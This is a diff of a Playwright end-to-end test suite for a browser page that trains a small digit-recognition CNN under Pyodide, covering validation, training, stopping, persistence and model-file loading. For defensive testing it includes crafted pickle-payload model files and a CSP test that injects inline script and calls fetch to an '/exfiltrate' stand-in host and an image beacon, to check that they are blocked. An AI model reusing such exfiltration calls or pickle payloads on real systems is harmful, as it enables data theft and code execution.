@@ -1,7 +1,6 @@
 """The page in real Chromium against the built site: load, train, stop, persist, files, validation.
 
-The tests share one page (module fixture `app`) and run in file order: the training test
-leaves a trained model that the stop, reload and file tests build on.
+Each test gets its page from a fixture (tests/e2e/conftest.py) and passes alone.
 """
 import builtins
 import os
@@ -12,7 +11,7 @@ import numpy as np
 import pytest
 from playwright.sync_api import expect
 
-from e2e_support import ROOT, TRAIN_TIMEOUT_MS, main_thread_load
+from e2e_support import ROOT
 
 sys.path.insert(0, str(ROOT))
 import pycnn  # noqa: E402  (the checkout's library, to craft model files)
@@ -20,35 +19,30 @@ from model_files import npy, npy_with_header, with_config, with_member  # noqa: 
 
 # 1 epoch on 2,000 digits; batch 16 and lr 0.01 reach ~88-90% held-out in CPython over seeds
 QUICK_RUN = {"epochs-input": "1", "train-size-input": "2000", "batch-size-input": "16", "learning-rate-input": "0.01"}
-LONG_TASK_LIMIT_MS = 50
-
-
-def fill_settings(app, values):
-    for testid, value in values.items():
-        app.by_id(testid).fill(value)
+# 8 batches: a trained model in about a second
+TINY_RUN = {"epochs-input": "1", "train-size-input": "256", "batch-size-input": "32", "learning-rate-input": "0.01"}
 
 
 def filter_images(app):
     return app.page.eval_on_selector_all('[data-testid="filters"] canvas', "cs => cs.map(c => c.toDataURL())")
 
 
-def wait_run_result(app, result, timeout=TRAIN_TIMEOUT_MS):
-    app.page.wait_for_selector(f'body[data-state="ready"][data-run-result="{result}"]', state="attached", timeout=timeout)
+def foreign_requests(app):
+    return [u for u in app.log.requests if not u.startswith(app.url) and not u.startswith(("data:", "blob:"))]
 
 
 def test_page_reaches_ready_without_errors_and_only_talks_to_its_origin(app):
     page = app.page
-    assert page.evaluate("document.body.dataset.state") == "ready"
+    assert app.body("state") == "ready"
     stages = page.eval_on_selector_all('[data-testid="stages"] li', "ls => ls.map(l => [l.dataset.stage, l.dataset.status])")
     assert stages == [[s, "done"] for s in ("python", "numpy", "pycnn", "data", "ready")]
-    assert int(app.attr("status", "data-load-ms")) > 0
+    assert app.measurements()["load_ms"] > 0
     # a first visit starts Python the slow way and keeps a memory snapshot for the next one
     assert app.attr("status", "data-python-snapshot") == "saved"
     assert app.log.console_errors == [] and app.log.page_errors == []
     assert app.probe()["csp"] == []
     assert app.log.requests, "no requests were seen"
-    foreign = [u for u in app.log.requests if not u.startswith(app.url) and not u.startswith(("data:", "blob:"))]
-    assert foreign == []
+    assert foreign_requests(app) == []
     assert any(u.endswith("pyodide.asm.wasm") for u in app.log.requests)
     assert any("/wheels/pycnn-" in u for u in app.log.requests)
     # the wheel is installed with micropip (and its packaging dependency), from this server
@@ -59,7 +53,7 @@ def test_page_reaches_ready_without_errors_and_only_talks_to_its_origin(app):
 
 
 def test_untrained_model_says_so_and_estimates_an_epoch(app):
-    assert app.page.evaluate("document.body.dataset.model") == "untrained"
+    assert app.body("model") == "untrained"
     assert "Untrained model" in app.by_id("model-state").inner_text()
     assert app.attr("accuracy", "data-val-accuracy") == ""
     app.page.wait_for_selector('[data-testid="estimate"][data-seconds-per-epoch]', state="attached", timeout=60_000)
@@ -74,7 +68,8 @@ def test_untrained_model_says_so_and_estimates_an_epoch(app):
     ("learning-rate-input", "-0.1"), ("learning-rate-input", "0"), ("learning-rate-input", "1e6"),
     ("train-size-input", "0"), ("train-size-input", "100000"), ("seed-input", "-1"), ("seed-input", "1.5"),
 ])
-def test_invalid_input_disables_train_with_a_message(app, testid, value):
+def test_invalid_input_disables_train_with_a_message(shared_app, testid, value):
+    app = shared_app
     field = app.by_id(testid)
     error = app.by_id(testid.replace("-input", "-error"))
     good = field.input_value()
@@ -85,34 +80,49 @@ def test_invalid_input_disables_train_with_a_message(app, testid, value):
     assert error.inner_text().strip()
     expect(field).to_have_attribute("aria-invalid", "true")
     app.page.evaluate("document.getElementById('train-form').requestSubmit()")  # Enter key path: nothing is sent
-    assert app.page.evaluate("document.body.dataset.state") == "ready"
+    assert app.body("state") == "ready"
     assert app.attr("loss-chart", "data-points") == points
     field.fill(good)
     expect(app.by_id("train-button")).to_be_enabled()
     expect(error).to_be_hidden()
 
 
-def test_batch_larger_than_training_set_is_refused(app):
-    fill_settings(app, {"train-size-input": "20", "batch-size-input": "32"})
+def test_the_form_checks_the_limits_python_publishes(shared_app):
+    """The bounds come from TrainingConfig.limits() (no copy in JavaScript): the largest value
+    Python accepts is accepted, one more is refused with Python's bound in the message."""
+    app = shared_app
+    limits = pycnn.TrainingConfig.limits()
+    for testid, name, label in (("epochs-input", "epochs", "Epochs"), ("batch-size-input", "batch_size", "Batch size")):
+        highest = limits[name]["max"]
+        field = app.by_id(testid)
+        good = field.input_value()
+        assert field.get_attribute("max") == str(highest)  # the spinner's range too
+        app.fill({testid: str(highest + 1), "train-size-input": "8500"})
+        expect(app.by_id(testid.replace("-input", "-error"))).to_have_text(f"{label} must be at most {highest:,}")
+        app.fill({testid: str(min(highest, 8500))})
+        expect(app.by_id("train-button")).to_be_enabled()
+        app.fill({testid: good})
+
+
+def test_batch_larger_than_training_set_is_refused(shared_app):
+    app = shared_app
+    app.fill({"train-size-input": "20", "batch-size-input": "32"})
     expect(app.by_id("train-button")).to_be_disabled()
     expect(app.by_id("batch-size-error")).to_contain_text("training digits")
-    fill_settings(app, {"train-size-input": "8500", "batch-size-input": "32"})
+    app.fill({"train-size-input": "8500", "batch-size-input": "32"})
     expect(app.by_id("train-button")).to_be_enabled()
 
 
 def test_train_one_epoch_on_2000_digits(app):
     page = app.page
     before = filter_images(app)
-    fill_settings(app, QUICK_RUN)
-    started = page.evaluate("performance.now()")
+    app.fill(QUICK_RUN)
     app.by_id("train-button").click()
     app.wait_state("training", timeout=10_000)
-    wait_run_result(app, "finished")
-    ended = page.evaluate("performance.now()")
+    app.wait_run_result("finished")
     page.wait_for_function("() => document.querySelector('[data-testid=loss-chart]').dataset.points === '125'")
 
     chart = app.by_id("loss-chart")
-    assert int(chart.get_attribute("data-points")) >= 2
     assert float(chart.get_attribute("data-last-loss")) < float(chart.get_attribute("data-first-loss"))
     assert app.attr("accuracy-chart", "data-points") == "1"
     accuracy = float(app.attr("accuracy", "data-val-accuracy"))
@@ -121,85 +131,55 @@ def test_train_one_epoch_on_2000_digits(app):
     assert app.attr("progress", "data-epoch") == "1" and app.attr("progress", "data-step") == "125"
     after = filter_images(app)
     assert len(after) == 10 and sum(a != b for a, b in zip(before, after)) >= 8
-    assert page.evaluate("document.body.dataset.model") == "trained"
+    assert app.body("model") == "trained"
+    expect(app.by_id("model-state")).to_contain_text("Trained for 1 epoch on 2,000 digits")
     # Python's memory in the worker (wasm memory never shrinks): measured 80 MiB at ready, 96 MiB after the default run
-    heap = int(page.evaluate("document.body.dataset.workerHeapBytes"))
+    heap = app.measurements()["worker_heap_bytes"]
     assert 50 * 2**20 < heap < 200 * 2**20, f"worker heap {heap / 2**20:.0f} MiB"
-    app.training_window = (started, ended)
-    print(f"\ntraining took {(ended - started) / 1000:.1f} s at {app.attr('progress', 'data-images-per-second')} images/s")
+    print(f"\ntrained at {app.attr('progress', 'data-images-per-second')} images/s")
     assert app.log.console_errors == [] and app.log.page_errors == []
     expect(app.by_id("confusion-matrix")).to_have_attribute("data-total", "1500")  # the page is complete
     app.screenshot("trained-page.png")
 
 
-def long_tasks(app, window):
-    """Long tasks (Long Tasks API) and long animation frames in which page scripts ran, inside window."""
-    probe = app.probe()
-    assert "longTaskError" not in probe
-    return main_thread_load(probe, *window)
-
-
-def test_longest_main_thread_task_while_training_is_under_50_ms(app):
-    """Measured on the training run above. The Long Tasks API times tasks by the wall clock, so when
-    other processes starve the 2 cores a task can exceed 50 ms with no page script running long; then
-    (and only then) one more run is measured. Page scripts that run 50 ms in one frame fail at once."""
-    windows = [app.training_window]
-    for attempt in range(3):
-        tasks, frames = long_tasks(app, windows[-1])
-        print(f"\nrun {attempt + 1}: long tasks {tasks or 'none'}; blocking animation frames {frames or 'none'}")
-        assert all(f["scriptMs"] < LONG_TASK_LIMIT_MS for f in frames), frames
-        if max(tasks, default=0) < LONG_TASK_LIMIT_MS:
-            return
-        fill_settings(app, {"epochs-input": "1", "train-size-input": "2000", "batch-size-input": "16", "learning-rate-input": "0.0005"})
-        started = app.page.evaluate("performance.now()")
-        app.by_id("train-button").click()
-        app.wait_state("training", timeout=10_000)
-        wait_run_result(app, "finished")
-        windows.append((started, app.page.evaluate("performance.now()")))
-    pytest.fail(f"every measured training run had a main-thread task of {LONG_TASK_LIMIT_MS} ms or more")
-
-
-def test_stop_during_an_epoch_stops_promptly_and_keeps_the_model(app):
+def test_stop_during_an_epoch_lands_within_one_batch_and_keeps_the_model(app):
     page = app.page
-    accuracy_before = float(app.attr("accuracy", "data-val-accuracy"))
-    fill_settings(app, {"epochs-input": "2", "train-size-input": "8500", "batch-size-input": "32", "learning-rate-input": "0.002"})
+    app.fill({"epochs-input": "2", "train-size-input": "8500", "batch-size-input": "32", "learning-rate-input": "0.002"})
     app.by_id("train-button").click()
     app.wait_state("training", timeout=10_000)
     page.wait_for_function("() => Number(document.querySelector('[data-testid=progress]').dataset.step) >= 20", timeout=60_000)
     app.by_id("stop-button").click()
-    wait_run_result(app, "stopped", timeout=30_000)
+    app.wait_run_result("stopped", timeout=30_000)
     progress = app.by_id("progress")
     step = int(progress.get_attribute("data-step"))
     per_epoch = int(progress.get_attribute("data-batches-per-epoch"))
     assert 20 <= step < per_epoch, "stopped inside the first epoch"
-    latency = float(progress.get_attribute("data-stop-latency-ms"))
     after_stop = int(progress.get_attribute("data-batches-after-stop"))
-    print(f"\nstop: {after_stop} batch(es) finished after the click, ready again after {latency:.0f} ms")
+    print(f"\nstop: {after_stop} batch(es) finished after the click, ready again after "
+          f"{app.measurements()['stop_latency_ms']} ms")
     # Counted by the worker: batches that ended after the page sent `stop` (the two share a clock).
     # The worker trains one batch per call and looks at its messages in between: only the batch
     # in flight when the click came may finish.
     assert after_stop <= 1
-    assert latency < 2_000  # includes the held-out evaluation and the checkpoint
     expect(app.by_id("progress")).to_contain_text(f"Epoch 1 of 2 · batch {step} of {per_epoch}")
+    # the model is kept: trained for part of an epoch, its accuracy shown, Train continues from it
+    expect(app.by_id("model-state")).to_contain_text("Trained for part of an epoch")
     expect(app.by_id("model-state")).to_contain_text("stopped part-way through an epoch")
-    # the model is kept: still trained, accuracy still shown, Train continues from it
-    assert page.evaluate("document.body.dataset.model") == "trained"
-    assert float(app.attr("accuracy", "data-val-accuracy")) >= accuracy_before - 0.05
+    assert app.body("model") == "trained"
+    assert float(app.attr("accuracy", "data-val-accuracy")) > 0.5
     assert not app.by_id("train-button").is_disabled()
     assert app.log.console_errors == []
 
 
-def test_stop_at_an_epoch_end_says_whole_epochs(open_site):
+def test_stop_at_an_epoch_end_says_whole_epochs(app):
     """One batch per epoch: every call ends an epoch (with a held-out evaluation), so Stop lands
     between epochs; the page must not call the model part-way through one."""
-    app = open_site()
-    app.goto_ready()
-    fill_settings(app, {"epochs-input": "50", "train-size-input": "32", "batch-size-input": "32"})
+    app.fill({"epochs-input": "50", "train-size-input": "32", "batch-size-input": "32"})
     app.by_id("train-button").click()
     app.page.wait_for_function("() => Number(document.querySelector('[data-testid=progress]').dataset.step) >= 5",
                                timeout=60_000)
     app.by_id("stop-button").click()
-    wait_run_result(app, "stopped", timeout=30_000)
+    app.wait_run_result("stopped", timeout=30_000)
     epochs = int(app.attr("progress", "data-step"))
     expect(app.by_id("progress")).to_contain_text(f"Epoch {epochs} of 50 · batch 1 of 1")
     expect(app.by_id("model-state")).to_contain_text(f"Trained for {epochs} epochs")
@@ -207,23 +187,29 @@ def test_stop_at_an_epoch_end_says_whole_epochs(open_site):
 
 
 def test_reload_restores_the_trained_model(app):
+    app.train(TINY_RUN)
+    app.wait_saved(1)
     accuracy = app.attr("accuracy", "data-val-accuracy")
     points = app.attr("loss-chart", "data-points")
-    epochs = app.attr("accuracy-chart", "data-points")
+    assert points == "8"
     filters = filter_images(app)
     app.page.reload()
     app.wait_state("ready")
     # Python came back from the snapshot of the first load; everything below runs on it
     assert app.attr("status", "data-python-snapshot") == "restored"
-    assert app.page.evaluate("document.body.dataset.model") == "restored"
+    assert app.body("model") == "restored"
+    expect(app.by_id("model-state")).to_contain_text("Restored from this browser's storage (trained 1 epoch")
     assert app.attr("accuracy", "data-val-accuracy") == accuracy
     assert app.attr("loss-chart", "data-points") == points
-    assert app.attr("accuracy-chart", "data-points") == epochs
+    assert app.attr("accuracy-chart", "data-points") == "1"
     app.page.wait_for_function("() => document.querySelector('[data-testid=filters]').dataset.version !== '0'")
     assert filter_images(app) == filters
+    assert app.log.page_errors == [] and app.log.console_errors == []
+    assert foreign_requests(app) == []  # the reload too fetched everything from the site
 
 
 def test_download_then_load_round_trips(app, tmp_path):
+    app.train(TINY_RUN)
     accuracy = app.attr("accuracy", "data-val-accuracy")
     with app.page.expect_download() as info:
         app.by_id("download-model").click()
@@ -232,13 +218,13 @@ def test_download_then_load_round_trips(app, tmp_path):
     path = tmp_path / "model.npz"
     download.save_as(path)
     assert path.stat().st_size > 1000
+    assert pycnn.load(str(path)).get_config() == pycnn.seed_model().get_config()  # the page's network, in CPython
 
     app.by_id("reset-button").click()
     app.page.wait_for_selector('body[data-model="untrained"]', state="attached")
     assert app.attr("accuracy", "data-val-accuracy") == ""
 
-    app.by_id("load-model").set_input_files(str(path))
-    app.page.wait_for_selector('body[data-model="loaded"]', state="attached", timeout=30_000)
+    app.load_model(path)
     assert app.attr("accuracy", "data-val-accuracy") == accuracy
     assert "model.npz" in app.by_id("model-state").inner_text()
 
@@ -269,8 +255,9 @@ def _pickled_weights():
     return with_member(GOOD_MODEL, "0.b.npy", npy(payload, allow_pickle=True))
 
 
-OTHER_ARCHITECTURE = pycnn.Sequential([pycnn.Conv2D(1, 4, 3), pycnn.ReLU(), pycnn.MaxPool2D(2), pycnn.Flatten(),
-                                       pycnn.Dense(4 * 13 * 13, 3)], seed=0, input_shape=(1, 28, 28)).to_bytes()
+THREE_CLASSES = pycnn.Sequential([pycnn.Conv2D(1, 4, 3), pycnn.ReLU(), pycnn.MaxPool2D(2), pycnn.Flatten(),
+                                  pycnn.Dense(4 * 13 * 13, 3)], seed=0, input_shape=(1, 28, 28)).to_bytes()
+SMALL_IMAGES = pycnn.Sequential([pycnn.Flatten(), pycnn.Dense(16 * 16, 10)], seed=0, input_shape=(1, 16, 16)).to_bytes()
 BAD_FILES = [  # (file name, content or a size in bytes for a sparse file on disk, what the message says)
     ("random.npz", os.urandom(4096), "not a pycnn model file"),
     ("empty.npz", b"", "the file is empty"),
@@ -281,7 +268,8 @@ BAD_FILES = [  # (file name, content or a size in bytes for a sparse file on dis
      "Dense expects input of shape (1000,), got (1690,)"),
     ("wrong-weight-shape.npz", with_member(GOOD_MODEL, "4.W.npy", npy(np.zeros((10, 1690), np.float32))),
      "4.W.npy: shape must be (1690, 10), got (10, 1690)"),
-    ("other-architecture.npz", OTHER_ARCHITECTURE, "does not fit the page"),
+    ("three-classes.npz", THREE_CLASSES, "does not fit the page: it has 3 classes, the page needs 10"),
+    ("16x16-images.npz", SMALL_IMAGES, "does not fit the page: it reads images of shape (1, 16, 16)"),
     ("nan-weights.npz", _bad_weights("0.W.npy", (10, 1, 3, 3), np.nan), "0.W.npy: weights contain NaN or infinity"),
     ("inf-weights.npz", _bad_weights("4.b.npy", (10,), np.inf), "4.b.npy: weights contain NaN or infinity"),
     ("billion-elements.npz",
@@ -304,9 +292,9 @@ def test_the_pickle_payload_runs_when_unpickled():
 
 
 @pytest.mark.parametrize("name, payload, reason", BAD_FILES, ids=[name for name, _, _ in BAD_FILES])
-def test_bad_model_file_is_refused_with_a_message_and_the_model_kept(app, name, payload, reason, tmp_path):
+def test_bad_model_file_is_refused_with_a_message_and_the_model_kept(shared_trained_app, name, payload, reason, tmp_path):
+    app = shared_trained_app
     accuracy = app.attr("accuracy", "data-val-accuracy")
-    model = app.page.evaluate("document.body.dataset.model")
     if isinstance(payload, int):
         path = tmp_path / name
         with open(path, "wb") as f:
@@ -320,82 +308,63 @@ def test_bad_model_file_is_refused_with_a_message_and_the_model_kept(app, name, 
     assert text.startswith(f"Could not load {name}: ") and text.rstrip("×").strip().endswith("Your current model is unchanged.")
     assert reason in text
     assert app.attr("accuracy", "data-val-accuracy") == accuracy
-    assert app.page.evaluate("document.body.dataset.model") == model
-    assert app.page.evaluate("document.body.dataset.state") == "ready"
+    assert app.body("model") == "loaded" and app.body("state") == "ready"
     # no code ran in the worker (the pickle rows would have set this global when unpickled)
     assert [w.evaluate("() => self.pycnn_pwned === undefined") for w in app.page.workers] == [True]
     message.locator(".dismiss").click()
 
 
-def test_truncated_model_file_is_refused(app, tmp_path):
-    with app.page.expect_download() as info:
-        app.by_id("download-model").click()
-    data = open(info.value.path(), "rb").read()
+def test_truncated_model_file_is_refused(shared_trained_app, cli_model):
+    app = shared_trained_app
+    data = cli_model.read_bytes()
     accuracy = app.attr("accuracy", "data-val-accuracy")
     app.by_id("load-model").set_input_files(files=[{"name": "cut.npz", "mimeType": "application/octet-stream", "buffer": data[: len(data) // 2]}])
     app.page.wait_for_selector('[data-testid="message"][data-kind="error"]', state="visible", timeout=30_000)
+    expect(app.by_id("message")).to_contain_text("Could not load cut.npz")
     assert app.attr("accuracy", "data-val-accuracy") == accuracy
     app.by_id("message").locator(".dismiss").click()
 
 
-def test_diverging_run_is_stopped_and_the_weights_restored(app):
+def test_diverging_run_is_stopped_and_the_weights_restored(trained_app):
+    app = trained_app
     accuracy = app.attr("accuracy", "data-val-accuracy")
-    model = app.page.evaluate("document.body.dataset.model")
-    fill_settings(app, {"epochs-input": "1", "train-size-input": "2000", "batch-size-input": "32", "learning-rate-input": "10"})
-    app.by_id("train-button").click()
-    app.wait_state("training", timeout=10_000)
-    app.page.wait_for_selector('body[data-state="ready"][data-run-result]', state="attached", timeout=TRAIN_TIMEOUT_MS)
-    assert app.page.evaluate("document.body.dataset.runResult") == "diverged"
+    app.train({"epochs-input": "1", "train-size-input": "2000", "batch-size-input": "32", "learning-rate-input": "10"},
+              result="diverged")
     message = app.by_id("message")
     expect(message).to_have_attribute("data-kind", "warning")
     expect(message).to_contain_text("smaller learning rate")
     assert app.attr("accuracy", "data-val-accuracy") == accuracy  # back to the weights the run started from
-    assert app.page.evaluate("document.body.dataset.model") == model
-    message.locator(".dismiss").click()
-    fill_settings(app, {"learning-rate-input": "0.01"})
+    assert app.body("model") == "loaded"
 
 
 def test_train_pressed_twice_starts_one_run(app):
-    points = int(app.attr("loss-chart", "data-points"))
-    epochs = int(app.attr("accuracy-chart", "data-points"))
-    fill_settings(app, {"epochs-input": "1", "train-size-input": "256", "batch-size-input": "32", "learning-rate-input": "0.001"})
+    app.fill(TINY_RUN)
     app.by_id("train-button").dblclick()
-    wait_run_result(app, "finished")
-    app.page.wait_for_function(f"() => document.querySelector('[data-testid=loss-chart]').dataset.points === '{points + 8}'")
-    assert app.attr("accuracy-chart", "data-points") == str(epochs + 1)  # 256 digits / 32 per batch, once
+    app.wait_run_result("finished")
+    app.page.wait_for_function("() => document.querySelector('[data-testid=loss-chart]').dataset.points === '8'")
+    assert app.attr("accuracy-chart", "data-points") == "1"  # 256 digits / 32 per batch, once
     expect(app.by_id("message")).to_be_hidden()
 
 
 def test_reload_mid_epoch_restores_the_last_completed_epoch(app):
     page = app.page
-    epochs_before = int(app.attr("accuracy-chart", "data-points"))
-    fill_settings(app, {"epochs-input": "3", "train-size-input": "2000", "batch-size-input": "16", "learning-rate-input": "0.002"})
+    app.fill({"epochs-input": "3", "train-size-input": "2000", "batch-size-input": "16", "learning-rate-input": "0.002"})
     app.by_id("train-button").click()
     app.wait_state("training", timeout=10_000)
-    # first epoch of this run done and saved (the checkpoint follows the epoch message), second under way
-    page.wait_for_function(f"() => Number(document.querySelector('[data-testid=accuracy-chart]').dataset.points) === {epochs_before + 1}"
+    # the first epoch done and saved (the checkpoint follows the epoch message), the second under way
+    page.wait_for_function("() => Number(document.querySelector('[data-testid=accuracy-chart]').dataset.points) === 1"
                            " && Number(document.querySelector('[data-testid=progress]').dataset.step) > 135", timeout=120_000)
     saved_accuracy = app.attr("accuracy-chart", "data-last-val-accuracy")
     page.reload()
     app.wait_state("ready")
-    assert page.evaluate("document.body.dataset.model") != "untrained"
-    assert app.attr("accuracy-chart", "data-points") == str(epochs_before + 1)
+    assert app.body("model") == "restored"
+    assert app.attr("accuracy-chart", "data-points") == "1"
     assert float(app.attr("accuracy", "data-val-accuracy")) == pytest.approx(float(saved_accuracy), abs=1e-9)
 
 
-def test_no_console_errors_and_no_request_off_the_origin_after_all_of_the_above(app):
-    assert app.log.page_errors == []
-    # a refused file is reported on the page, not as a console error
-    assert app.log.console_errors == []
-    assert app.probe()["csp"] == []
-    # every request of the session (page and worker: boot, training, files, reloads) went to the origin
-    foreign = [u for u in app.log.requests if not u.startswith(app.url) and not u.startswith(("data:", "blob:"))]
-    assert len(app.log.requests) > 20 and foreign == []
-
-
 def test_csp_is_in_force_in_the_page_and_the_worker(app):
-    """Runs last: it provokes violations on purpose. The meta tag and build.py's header each enforce
-    the policy, so one blocked action can be reported once per policy."""
+    """Provokes violations on purpose. The meta tag and build.py's header each enforce the
+    policy, so one blocked action can be reported once per policy."""
     page = app.page
     header = page.evaluate("fetch(location.href).then(r => r.headers.get('content-security-policy'))")
     meta = page.get_attribute('meta[http-equiv="Content-Security-Policy"]', "content")
@@ -403,6 +372,13 @@ def test_csp_is_in_force_in_the_page_and_the_worker(app):
         assert "default-src 'self'" in policy and "script-src 'self' 'wasm-unsafe-eval'" in policy
         assert "'unsafe-inline'" not in policy and "'unsafe-eval'" not in policy
     outcome = page.evaluate("""async () => {
+      // resolves when the browser reports the directive violated (after 10 s without: a failure)
+      const violated = (directive) => Promise.race([
+        new Promise((resolve) => document.addEventListener('securitypolicyviolation',
+          (e) => { if (e.violatedDirective.startsWith(directive)) resolve(); })),
+        new Promise((resolve) => setTimeout(resolve, 10000))]);
+      const scriptBlocked = violated('script-src-elem'), handlerBlocked = violated('script-src-attr');
+      const imageBlocked = violated('img-src');
       const s = document.createElement('script');
       s.textContent = 'window.__inlineRan = true';
       document.head.appendChild(s);  // an injected inline script
@@ -414,8 +390,8 @@ def test_csp_is_in_force_in_the_page_and_the_worker(app):
       try { await fetch('http://127.0.0.2:9/exfiltrate'); fetched = 'sent'; } catch (e) { fetched = 'blocked'; }
       const img = new Image();
       img.src = 'http://127.0.0.2:9/pixel.png';  // a beacon as an image
-      await new Promise((r) => setTimeout(r, 300));
-      attr.remove(); img.remove?.(); s.remove();
+      await Promise.all([scriptBlocked, handlerBlocked, imageBlocked]);
+      attr.remove(); s.remove();
       return { inline: window.__inlineRan === true, handler: window.__handlerRan === true, fetched };
     }""")
     assert outcome == {"inline": False, "handler": False, "fetched": "blocked"}
@@ -425,9 +401,14 @@ def test_csp_is_in_force_in_the_page_and_the_worker(app):
     worker = page.workers[0]
     blocked = worker.evaluate("""async () => {
       const seen = [];
-      self.addEventListener('securitypolicyviolation', (e) => seen.push(e.violatedDirective));
+      const reported = Promise.race([  // the report, or 10 s without one (then `seen` stays empty)
+        new Promise((resolve) => self.addEventListener('securitypolicyviolation', (e) => {
+          seen.push(e.violatedDirective);
+          resolve();
+        })),
+        new Promise((resolve) => setTimeout(resolve, 10000))]);
       try { await fetch('http://127.0.0.2:9/exfiltrate'); return ['sent', seen]; }
-      catch (e) { await new Promise((r) => setTimeout(r, 100)); return ['blocked', seen]; }
+      catch (e) { await reported; return ['blocked', seen]; }
     }""")
     assert blocked[0] == "blocked" and "connect-src" in blocked[1]
     print(f"\nCSP violations recorded in the page: {app.probe()['csp']}; in the worker: {blocked[1]}")
